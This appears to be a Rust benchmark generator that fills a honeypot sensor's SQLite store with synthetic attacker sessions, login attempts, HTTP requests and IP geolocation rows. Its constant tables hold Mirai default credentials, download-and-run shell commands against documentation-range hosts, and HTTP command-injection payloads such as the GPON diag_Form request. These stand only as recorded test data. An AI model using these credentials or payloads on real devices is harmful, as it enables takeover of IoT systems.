//! The generated store: a sensor's schema from [`store::open`], filled row for row as a sensor
//! records (20 instances, 200,000 sessions, 1,000,000 events, 50,000 addresses with places).

use std::collections::HashSet;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::path::Path;
use std::time::Instant;

use rusqlite::types::Value;
use rusqlite::{Connection, params, params_from_iter};
use store::{Column, InstanceTable, TableSpec};
use time::OffsetDateTime;

/// Sessions generated; with their rows, [`EVENTS`] events.
pub(super) const SESSIONS: usize = 200_000;
/// Events in the store: a start and an end per session, plus every instance row.
pub(super) const EVENTS: usize = 1_000_000;
/// Distinct source addresses (each has at least one session and one `ipInfo` row).
const ADDRESSES: usize = 50_000;
/// Session starts are spread over this many days before the generation time.
const SPAN_DAYS: i64 = 30;
/// Sessions per transaction while generating.
pub(super) const SESSIONS_PER_TX: usize = 20_000;
/// The sensor's name in every session.
const SENSOR: &str = "bench";
/// The sensor's address attackers reached.
const LOCAL_ADDRESS: &str = "10.0.0.5";
/// The window asked of every endpoint.
pub(super) const WINDOW: &str = "days=7";

/// What a plug-in instance speaks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    Telnet,
    Http,
}

impl Kind {
    pub(super) fn protocol(self) -> &'static str {
        match self {
            Kind::Telnet => "telnet",
            Kind::Http => "http",
        }
    }

    /// The instance table's columns: what the sensor's built-in plug-in of this kind declares
    /// with default options, so the seeded store has the tables a real sensor's has.
    pub(super) fn columns(self) -> Vec<Column> {
        let kind = sensor::plugin::find_kind(self.protocol()).expect("a built-in plug-in kind");
        let limits = sensor::limits::Limits::default();
        let settings = sensor::plugin::PluginSettings {
            name: "bench",
            options: &Default::default(),
            limits: &limits,
            config_dir: std::path::Path::new("."),
            data_dir: std::path::Path::new("."),
        };
        match (kind.build)(&settings) {
            Ok(plugin) => plugin.columns(),
            Err(problems) => panic!("the {} plug-in's defaults: {problems:?}", kind.name),
        }
    }
}

/// The 20 plug-in instances: 10 telnet and 10 HTTP, one table each (`telnet_23`, `http_80`,
/// ...), as a sensor configured with 20 `[[plugin]]` tables has. The weight is the share of
/// sessions a port draws.
pub(super) const INSTANCES: [(Kind, u16, f64); 20] = [
    (Kind::Telnet, 23, 30.0),
    (Kind::Telnet, 2323, 20.0),
    (Kind::Telnet, 2223, 6.0),
    (Kind::Telnet, 2222, 5.0),
    (Kind::Telnet, 22, 4.0),
    (Kind::Telnet, 6523, 2.0),
    (Kind::Telnet, 9527, 2.0),
    (Kind::Telnet, 10023, 2.0),
    (Kind::Telnet, 23023, 2.0),
    (Kind::Telnet, 26, 1.0),
    (Kind::Http, 80, 25.0),
    (Kind::Http, 8080, 15.0),
    (Kind::Http, 8081, 5.0),
    (Kind::Http, 8000, 4.0),
    (Kind::Http, 7547, 4.0),
    (Kind::Http, 8088, 3.0),
    (Kind::Http, 8888, 3.0),
    (Kind::Http, 81, 3.0),
    (Kind::Http, 5000, 2.0),
    (Kind::Http, 9000, 1.0),
];

/// Instance `i`'s table (and plug-in instance) name.
pub(super) fn table_name(i: usize) -> String {
    let (kind, port, _) = INSTANCES[i];
    format!("{}_{port}", kind.protocol())
}

/// The instances as [`store::open`] takes them.
fn instance_tables() -> Vec<InstanceTable> {
    (0..INSTANCES.len())
        .map(|i| InstanceTable {
            plugin: table_name(i),
            table: TableSpec {
                name: table_name(i),
                columns: INSTANCES[i].0.columns(),
            },
        })
        .collect()
}

/// Username and password pairs of the Mirai family, most tried first.
const CREDENTIALS: [(&str, &str); 24] = [
    ("root", "xc3511"),
    ("admin", "admin"),
    ("root", "vizxv"),
    ("root", "admin"),
    ("root", "888888"),
    ("root", "default"),
    ("root", "123456"),
    ("admin", "password"),
    ("root", "root"),
    ("support", "support"),
    ("root", "xmhdipc"),
    ("root", "juantech"),
    ("user", "user"),
    ("admin", "1234"),
    ("root", "54321"),
    ("guest", "12345"),
    ("root", "pass"),
    ("admin", "smcadmin"),
    ("root", "7ujMko0admin"),
    ("root", "Zte521"),
    ("root", "hi3518"),
    ("root", "jvbzd"),
    ("root", "anko"),
    ("ubnt", "ubnt"),
];

/// Commands typed after a login, most typed first.
const COMMANDS: [&str; 16] = [
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox MIRAI",
    "cat /proc/mounts; /bin/busybox ECCHI",
    "uname -a",
    "cd /tmp || cd /var/run || cd /mnt",
    "wget http://198.51.100.23/bins.sh",
    "chmod 777 bins.sh",
    "sh bins.sh",
    "tftp 198.51.100.23 -c get tftp1.sh",
    "cat /proc/cpuinfo",
    "rm -rf bins.sh tftp1.sh",
    "history -c",
    "ps",
];

/// HTTP requests scanners send: method, path, body, status answered, and whether the body or
/// query is a login the plug-in reads a username and password from.
const REQUESTS: [(&str, &str, &str, i64, bool); 12] = [
    ("GET", "/", "", 200, false),
    ("GET", "/favicon.ico", "", 404, false),
    ("POST", "/login.cgi", "username={u}&password={p}", 200, true),
    ("GET", "/HNAP1/", "", 404, false),
    (
        "GET",
        "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws",
        "",
        404,
        false,
    ),
    ("GET", "/.env", "", 404, false),
    (
        "POST",
        "/GponForm/diag_Form?images/",
        "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.3/gpon`;sh+gpon&ipv=0",
        404,
        false,
    ),
    ("GET", "/cgi-bin/luci", "", 404, false),
    ("GET", "/login.cgi?username={u}&password={p}", "", 200, true),
    ("GET", "/robots.txt", "", 200, false),
    (
        "GET",
        "/boaform/admin/formLogin?username=admin&psd=admin",
        "",
        404,
        false,
    ),
    ("GET", "/index.html", "", 200, false),
];

/// User agents of scanners and bots.
const USER_AGENTS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Hello, world",
    "Mozilla/5.0 zgrab/0.x",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
];

/// A place attackers come from: city, region, country, ISO code, latitude, longitude, org,
/// ASN, and the share of addresses placed there.
type Place = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    f64,
    f64,
    &'static str,
    u32,
    f64,
);

/// Places attackers come from (invented, but plausible for a honeypot).
#[rustfmt::skip]
const PLACES: [Place; 46] = [
    ("Beijing", "Beijing", "China", "CN", 39.9042, 116.4074, "China Unicom Beijing Province Network", 4808, 6.0),
    ("Shanghai", "Shanghai", "China", "CN", 31.2304, 121.4737, "China Telecom Group", 4812, 6.0),
    ("Guangzhou", "Guangdong", "China", "CN", 23.1291, 113.2644, "Chinanet", 4134, 6.0),
    ("Shenzhen", "Guangdong", "China", "CN", 22.5431, 114.0579, "Chinanet", 4134, 5.0),
    ("Hangzhou", "Zhejiang", "China", "CN", 30.2741, 120.1551, "Hangzhou Alibaba Advertising Co.,Ltd.", 37963, 4.0),
    ("Chengdu", "Sichuan", "China", "CN", 30.5728, 104.0668, "Chinanet", 4134, 3.0),
    ("Ashburn", "Virginia", "United States", "US", 39.0438, -77.4874, "Amazon.com, Inc.", 14618, 4.0),
    ("Santa Clara", "California", "United States", "US", 37.3541, -121.9552, "DigitalOcean, LLC", 14061, 4.0),
    ("Los Angeles", "California", "United States", "US", 34.0522, -118.2437, "Psychz Networks", 40676, 3.0),
    ("New York", "New York", "United States", "US", 40.7128, -74.0060, "DigitalOcean, LLC", 14061, 3.0),
    ("Chicago", "Illinois", "United States", "US", 41.8781, -87.6298, "Comcast Cable Communications, LLC", 7922, 2.0),
    ("Dallas", "Texas", "United States", "US", 32.7767, -96.7970, "Linode, LLC", 63949, 2.0),
    ("São Paulo", "São Paulo", "Brazil", "BR", -23.5505, -46.6333, "Claro NXT Telecomunicacoes Ltda", 28573, 4.0),
    ("Rio de Janeiro", "Rio de Janeiro", "Brazil", "BR", -22.9068, -43.1729, "Telemar Norte Leste S.A.", 7738, 2.0),
    ("Mumbai", "Maharashtra", "India", "IN", 19.0760, 72.8777, "Reliance Jio Infocomm Limited", 55836, 3.0),
    ("New Delhi", "National Capital Territory of Delhi", "India", "IN", 28.6139, 77.2090, "Bharti Airtel Ltd.", 9498, 3.0),
    ("Bengaluru", "Karnataka", "India", "IN", 12.9716, 77.5946, "DigitalOcean, LLC", 14061, 2.0),
    ("Moscow", "Moscow", "Russia", "RU", 55.7558, 37.6173, "PJSC Rostelecom", 12389, 3.0),
    ("Saint Petersburg", "St.-Petersburg", "Russia", "RU", 59.9311, 30.3609, "PJSC MegaFon", 31133, 2.0),
    ("Hanoi", "Hanoi", "Vietnam", "VN", 21.0278, 105.8342, "VNPT Corp", 45899, 3.0),
    ("Ho Chi Minh City", "Ho Chi Minh", "Vietnam", "VN", 10.8231, 106.6297, "Viettel Group", 7552, 3.0),
    ("Seoul", "Seoul", "South Korea", "KR", 37.5665, 126.9780, "Korea Telecom", 4766, 2.0),
    ("Taipei", "Taipei City", "Taiwan", "TW", 25.0330, 121.5654, "Chunghwa Telecom Co., Ltd.", 3462, 2.0),
    ("Jakarta", "Jakarta", "Indonesia", "ID", -6.2088, 106.8456, "PT Telekomunikasi Indonesia", 7713, 2.0),
    ("Nuremberg", "Bavaria", "Germany", "DE", 49.4521, 11.0767, "Hetzner Online GmbH", 24940, 2.0),
    ("Frankfurt am Main", "Hesse", "Germany", "DE", 50.1109, 8.6821, "DigitalOcean, LLC", 14061, 1.0),
    ("Amsterdam", "North Holland", "Netherlands", "NL", 52.3676, 4.9041, "DigitalOcean, LLC", 14061, 2.0),
    ("Roubaix", "Hauts-de-France", "France", "FR", 50.6942, 3.1746, "OVH SAS", 16276, 2.0),
    ("London", "England", "United Kingdom", "GB", 51.5074, -0.1278, "Vodafone Limited", 5378, 1.0),
    ("Tehran", "Tehran", "Iran", "IR", 35.6892, 51.3890, "Iran Telecommunication Company PJS", 58224, 1.0),
    ("Istanbul", "Istanbul", "Turkey", "TR", 41.0082, 28.9784, "Turk Telekom", 9121, 1.0),
    ("Cairo", "Cairo Governorate", "Egypt", "EG", 30.0444, 31.2357, "TE Data", 8452, 1.0),
    ("Lagos", "Lagos", "Nigeria", "NG", 6.5244, 3.3792, "MTN NIGERIA Communication limited", 29465, 1.0),
    ("Johannesburg", "Gauteng", "South Africa", "ZA", -26.2041, 28.0473, "Vodacom", 36994, 1.0),
    ("Mexico City", "Mexico City", "Mexico", "MX", 19.4326, -99.1332, "Uninet S.A. de C.V.", 8151, 1.0),
    ("Buenos Aires", "Buenos Aires F.D.", "Argentina", "AR", -34.6037, -58.3816, "Telecom Argentina S.A.", 7303, 1.0),
    ("Bogotá", "Bogota D.C.", "Colombia", "CO", 4.7110, -74.0721, "COLOMBIA TELECOMUNICACIONES S.A. ESP", 3816, 1.0),
    ("Tokyo", "Tokyo", "Japan", "JP", 35.6762, 139.6503, "NTT Communications Corporation", 4713, 1.0),
    ("Singapore", "Singapore", "Singapore", "SG", 1.3521, 103.8198, "DigitalOcean, LLC", 14061, 2.0),
    ("Sydney", "New South Wales", "Australia", "AU", -33.8688, 151.2093, "Telstra Corporation Ltd", 1221, 1.0),
    ("Kyiv", "Kyiv City", "Ukraine", "UA", 50.4501, 30.5234, "Kyivstar PJSC", 15895, 1.0),
    ("Bangkok", "Bangkok", "Thailand", "TH", 13.7563, 100.5018, "True Internet Co.,Ltd.", 7470, 1.0),
    ("Karachi", "Sindh", "Pakistan", "PK", 24.8607, 67.0011, "Pakistan Telecommuication company limited", 17557, 1.0),
    ("Manila", "Metro Manila", "Philippines", "PH", 14.5995, 120.9842, "PLDT Inc.", 9299, 1.0),
    ("Toronto", "Ontario", "Canada", "CA", 43.6532, -79.3832, "Rogers Communications Canada Inc.", 812, 1.0),
    ("Bucharest", "Bucuresti", "Romania", "RO", 44.4268, 26.1025, "RCS & RDS", 8708, 1.0),
];

/// A small deterministic generator (SplitMix64): the same store on every run.
pub(super) struct Rng(pub(super) u64);

impl Rng {
    pub(super) fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// A number in `0..n` (`n` is far below 2^64: the bias is negligible).
    pub(super) fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    /// A number in `[0, 1)`.
    pub(super) fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }

    pub(super) fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }

    /// An index drawn with the weights summed up in `cdf`.
    pub(super) fn weighted(&mut self, cdf: &[f64]) -> usize {
        let total = cdf.last().copied().unwrap_or(0.0);
        let x = self.unit() * total;
        cdf.partition_point(|c| *c <= x).min(cdf.len() - 1)
    }

    pub(super) fn shuffle<T>(&mut self, v: &mut [T]) {
        for i in (1..v.len()).rev() {
            let j = self.below(i as u64 + 1) as usize;
            v.swap(i, j);
        }
    }
}

/// Running sums of `weights`, for [`Rng::weighted`].
fn cdf(weights: impl Iterator<Item = f64>) -> Vec<f64> {
    weights
        .scan(0.0, |sum, w| {
            *sum += w;
            Some(*sum)
        })
        .collect()
}

/// A Zipf-like rank (weight 1/rank) for lists of attacker choices.
fn zipf_cdf(n: usize) -> Vec<f64> {
    cdf((1..=n).map(|k| 1.0 / k as f64))
}

/// `n` distinct public-looking source addresses: 90% IPv4 outside private, loopback, shared,
/// link-local, multicast and reserved ranges, 10% IPv6 in providers' ranges.
fn addresses(rng: &mut Rng, n: usize) -> Vec<IpAddr> {
    const V6_PREFIXES: [[u16; 2]; 6] = [
        [0x2a01, 0x04f8],
        [0x2604, 0xa880],
        [0x2001, 0x0470],
        [0x2400, 0x6180],
        [0x240e, 0x0398],
        [0x2a03, 0xb0c0],
    ];
    let mut seen = HashSet::with_capacity(n);
    let mut out = Vec::with_capacity(n);
    while out.len() < n {
        let ip = if rng.chance(0.9) {
            let v4 = Ipv4Addr::from(rng.next() as u32);
            let [a, b, _, d] = v4.octets();
            let reserved = a == 0
                || a == 10
                || a == 127
                || a >= 224
                || (a == 100 && (64..128).contains(&b))
                || (a == 169 && b == 254)
                || (a == 172 && (16..32).contains(&b))
                || (a == 192 && b == 168)
                || (a == 198 && (18..20).contains(&b))
                || d == 0
                || d == 255;
            if reserved {
                continue;
            }
            IpAddr::V4(v4)
        } else {
            let [p0, p1] = V6_PREFIXES[rng.below(V6_PREFIXES.len() as u64) as usize];
            let r = rng.next();
            IpAddr::V6(Ipv6Addr::new(
                p0,
                p1,
                (r >> 48) as u16,
                (r >> 32) as u16,
                0,
                0,
                0,
                (r as u16).max(1),
            ))
        };
        if seen.insert(ip) {
            out.push(ip);
        }
    }
    out
}

/// One session to write: when it started (µs since the epoch), from where, to which instance,
/// and how many instance rows it has.
struct Plan {
    pub(super) start_us: i64,
    pub(super) address: u32,
    pub(super) instance: u8,
    pub(super) rows: u8,
    pub(super) peer_port: u16,
}

/// A store time from microseconds since the epoch.
fn stamp(us: i64) -> String {
    let t =
        OffsetDateTime::from_unix_timestamp_nanos(i128::from(us) * 1000).expect("a time in range");
    store::event::format_rfc3339(t)
}

/// What [`generate`] wrote.
pub(super) struct Generated {
    pub(super) seconds: f64,
    pub(super) sessions: usize,
    pub(super) rows: usize,
}

/// Fills a new store at `path`:
///
/// - 200,000 sessions (in `sessions`, each with its end: `endTime`, bytes, close reason),
///   started uniformly over the 30 days before now;
/// - 50,000 source addresses, each with at least one session; the other 150,000 sessions go to
///   addresses by a Zipf law (weight 1/rank, ranks shuffled over the addresses), so the busiest
///   address has about 13,000 sessions and half have only one;
/// - each address prefers one port (60% of its sessions) and picks the others by the ports'
///   weights ([`INSTANCES`]);
/// - session `i` has `1 + i % 5` instance rows (600,000 in all): a telnet session has a login
///   (10% of single-row sessions give no password), then commands, or (30%) only further
///   logins, a brute force; an HTTP session has requests from [`REQUESTS`], with the username
///   and password of login forms;
/// - `ipInfo`: one row per address with its first and last session, placed in a city of
///   [`PLACES`] (jittered by up to 0.4°), 7% only to a country (no city or region, whole-degree
///   coordinates), 3% unknown (all nulls).
pub(super) fn generate(path: &Path) -> Generated {
    let started = Instant::now();
    let (mut conn, _) = store::open(path, &instance_tables()).expect("create the store");
    let mut rng = Rng(0x7265_6363_6537);
    let now_us = (OffsetDateTime::now_utc().unix_timestamp_nanos() / 1000) as i64;
    let addrs = addresses(&mut rng, ADDRESSES);
    let plans = plan_sessions(&mut rng, now_us);
    let mut seen: Vec<(i64, i64)> = vec![(i64::MAX, i64::MIN); ADDRESSES];
    let mut rows = 0;
    for chunk in plans.chunks(SESSIONS_PER_TX) {
        let tx = conn.transaction().expect("begin");
        for plan in chunk {
            let span = &mut seen[plan.address as usize];
            *span = (span.0.min(plan.start_us), span.1.max(plan.start_us));
            rows += write_session(&tx, &mut rng, plan, &addrs[plan.address as usize], now_us);
        }
        tx.commit().expect("commit");
    }
    let tx = conn.transaction().expect("begin");
    write_ip_info(&tx, &mut rng, &addrs, &seen);
    tx.commit().expect("commit");
    conn.execute_batch("PRAGMA wal_checkpoint(TRUNCATE)")
        .expect("checkpoint");
    drop(conn);
    Generated {
        seconds: started.elapsed().as_secs_f64(),
        sessions: plans.len(),
        rows,
    }
}

/// The sessions, in the order they started.
fn plan_sessions(rng: &mut Rng, now_us: i64) -> Vec<Plan> {
    let span_us = SPAN_DAYS * 86_400 * 1_000_000;
    let port_cdf = cdf(INSTANCES.iter().map(|i| i.2));
    let preferred: Vec<u8> = (0..ADDRESSES)
        .map(|_| rng.weighted(&port_cdf) as u8)
        .collect();
    let mut rank_to_address: Vec<u32> = (0..ADDRESSES as u32).collect();
    rng.shuffle(&mut rank_to_address);
    let address_cdf = zipf_cdf(ADDRESSES);
    let mut plans: Vec<Plan> = (0..SESSIONS)
        .map(|i| {
            let address = if i < ADDRESSES {
                i as u32
            } else {
                rank_to_address[rng.weighted(&address_cdf)]
            };
            let instance = if rng.chance(0.6) {
                preferred[address as usize]
            } else {
                rng.weighted(&port_cdf) as u8
            };
            Plan {
                start_us: now_us - 1 - rng.below(span_us as u64) as i64,
                address,
                instance,
                rows: 1 + (i % 5) as u8,
                peer_port: 1024 + rng.below(64_512) as u16,
            }
        })
        .collect();
    plans.sort_by_key(|p| p.start_us);
    plans
}

/// The insert of an instance row: the fixed columns but `ID`, then the instance's own, as the
/// recorder writes them.
fn insert_sql(instance: usize) -> String {
    let cols: Vec<String> = store::schema::FIXED_COLUMNS[1..]
        .iter()
        .map(|(n, _)| (*n).to_owned())
        .chain(INSTANCES[instance].0.columns().into_iter().map(|c| c.name))
        .collect();
    let marks: Vec<String> = (1..=cols.len()).map(|k| format!("?{k}")).collect();
    format!(
        "INSERT INTO \"{}\" ({}) VALUES ({})",
        table_name(instance),
        cols.join(", "),
        marks.join(", ")
    )
}

/// Writes one session and its rows (as its `session.start`, its rows and its `session.end`
/// leave them); returns the rows written.
fn write_session(tx: &Connection, rng: &mut Rng, plan: &Plan, peer: &IpAddr, now_us: i64) -> usize {
    let cred_cdf = zipf_cdf(CREDENTIALS.len());
    let command_cdf = zipf_cdf(COMMANDS.len());
    let request_cdf = zipf_cdf(REQUESTS.len());
    let (kind, port, _) = INSTANCES[plan.instance as usize];
    let session = store::new_id();
    let peer = peer.to_string();
    let mut insert = tx
        .prepare_cached(&insert_sql(plan.instance as usize))
        .expect("prepare the instance insert");
    let brute_force = rng.chance(0.3);
    let (mut at, mut bytes_in, mut bytes_out) = (plan.start_us, 0i64, 0i64);
    for r in 0..plan.rows {
        let (event_type, own) = match kind {
            Kind::Telnet => {
                at += 200_000 + rng.below(3_000_000) as i64;
                if r == 0 || brute_force {
                    let (user, pass) = CREDENTIALS[rng.weighted(&cred_cdf)];
                    let pass = (plan.rows > 1 || !rng.chance(0.1)).then_some(pass);
                    bytes_in += 4 + (user.len() + pass.map_or(0, str::len)) as i64;
                    bytes_out += 30;
                    let own = vec![text("login"), Value::Null, text(user), opt_text(pass)];
                    ("telnet.login", own)
                } else {
                    let command = COMMANDS[rng.weighted(&command_cdf)];
                    bytes_in += command.len() as i64 + 2;
                    bytes_out += 60;
                    let own = vec![text("command"), text(command), Value::Null, Value::Null];
                    ("telnet.command", own)
                }
            }
            Kind::Http => {
                at += 20_000 + rng.below(500_000) as i64;
                let (method, path, body, status, login) = REQUESTS[rng.weighted(&request_cdf)];
                let (user, pass) = CREDENTIALS[rng.weighted(&cred_cdf)];
                let fill = |s: &str| s.replace("{u}", user).replace("{p}", pass);
                let (path, body) = (fill(path), fill(body));
                let agent = USER_AGENTS[plan.address as usize % USER_AGENTS.len()];
                let mut headers =
                    format!("Host: {LOCAL_ADDRESS}:{port}\nUser-Agent: {agent}\nAccept: */*\n");
                if method == "POST" {
                    headers.push_str(&format!(
                        "Content-Type: application/x-www-form-urlencoded\nContent-Length: {}\n",
                        body.len()
                    ));
                }
                bytes_in += (method.len() + path.len() + headers.len() + body.len() + 16) as i64;
                bytes_out += if status == 200 { 1_803 } else { 345 };
                let own = vec![
                    text(method),
                    text(path),
                    text("HTTP/1.1"),
                    text(headers),
                    text(store::escape_bytes(body.as_bytes(), 4096)),
                    opt_text(login.then_some(user)),
                    opt_text(login.then_some(pass)),
                    Value::Integer(status),
                ];
                ("http.request", own)
            }
        };
        let fixed = [
            text(&session),
            text(stamp(at)),
            text(&peer),
            text(LOCAL_ADDRESS),
            Value::Integer(plan.peer_port.into()),
            Value::Integer(port.into()),
            text(store::new_id()),
            text(event_type),
        ];
        insert
            .execute(params_from_iter(fixed.into_iter().chain(own)))
            .expect("insert an instance row");
    }
    let reason = match (kind, rng.below(10)) {
        (Kind::Telnet, 0..=3) if !brute_force && plan.rows > 1 => "logout",
        (_, 0..=1) => "idle timeout",
        (_, 2) => "peer reset",
        (Kind::Http, 3..=4) => "request asked to close",
        _ => "peer closed",
    };
    let end = match reason {
        "idle timeout" => at + 60_000_000,
        _ => at + rng.below(2_000_000) as i64,
    };
    tx.prepare_cached(
        "INSERT INTO sessions (session, sensor, plugin, tableName, protocol, peerAddress,
         peerPort, localAddress, localPort, startTime, endTime, bytesIn, bytesOut, closeReason,
         linkedSession, ident) VALUES (?1,?2,?3,?3,?4,?5,?6,?7,?8,?9,?10,?11,?12,?13,NULL,NULL)",
    )
    .expect("prepare the session insert")
    .execute(params![
        session,
        SENSOR,
        table_name(plan.instance as usize),
        kind.protocol(),
        peer,
        plan.peer_port,
        LOCAL_ADDRESS,
        port,
        stamp(plan.start_us),
        stamp(end.min(now_us)),
        bytes_in,
        bytes_out,
        reason
    ])
    .expect("insert a session");
    usize::from(plan.rows)
}

/// One `ipInfo` row per address, `seen` holding its first and last session start.
fn write_ip_info(tx: &Connection, rng: &mut Rng, addrs: &[IpAddr], seen: &[(i64, i64)]) {
    let place_cdf = cdf(PLACES.iter().map(|p| p.8));
    let mut insert = tx
        .prepare(
            "INSERT INTO ipInfo (ipAddress, firstSeen, lastSeen, city, region, country,
             countryCode, latitude, longitude, org, asn, updated)
             VALUES (?1,?2,?3,?4,?5,?6,?7,?8,?9,?10,?11,?3)",
        )
        .expect("prepare the ipInfo insert");
    for (ip, (first, last)) in addrs.iter().zip(seen) {
        let (city, region, country, code, lat, lon, org, asn, _) = PLACES[rng.weighted(&place_cdf)];
        let roll = rng.below(100);
        // 3%: the database does not know the address; 7%: only its country.
        let (known, in_city) = (roll >= 3, roll >= 10);
        let mut jitter = |v: f64| ((v + (rng.unit() - 0.5) * 0.8) * 10_000.0).round() / 10_000.0;
        let (lat, lon) = if in_city {
            (
                jitter(lat).clamp(-89.9, 89.9),
                jitter(lon).clamp(-179.9, 179.9),
            )
        } else {
            (lat.round(), lon.round())
        };
        insert
            .execute(params![
                ip.to_string(),
                stamp(*first),
                stamp(*last),
                in_city.then_some(city),
                in_city.then_some(region),
                known.then_some(country),
                known.then_some(code),
                known.then_some(lat),
                known.then_some(lon),
                known.then_some(org),
                known.then_some(asn)
            ])
            .expect("insert an ipInfo row");
    }
}

/// A TEXT value.
fn text(s: impl Into<String>) -> Value {
    Value::Text(s.into())
}

/// A TEXT value, or NULL.
fn opt_text(s: Option<&str>) -> Value {
    s.map_or(Value::Null, text)
}
